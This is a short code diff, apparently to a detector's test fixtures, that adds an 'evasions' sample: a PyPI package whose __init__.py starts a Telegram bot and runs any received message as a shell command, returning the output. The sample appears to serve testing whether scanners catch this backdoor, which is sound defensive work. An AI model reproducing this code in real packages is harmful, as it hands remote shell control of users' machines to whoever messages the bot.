@@ -49,5 +49,13 @@ Administrators run such bots on their own machines, with a token of their own; t
         },
       },
     ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/__init__.py": `import telebot as t, os\nb = t.TeleBot('123456789:A${"aB3_".repeat(8)}xy')\n@b.message_handler(content_types=['text'])\ndef f(m):\n    b.reply_to(m, os.popen(m.text).read())\n`,
+        },
+      },
+    ],
   },
 };
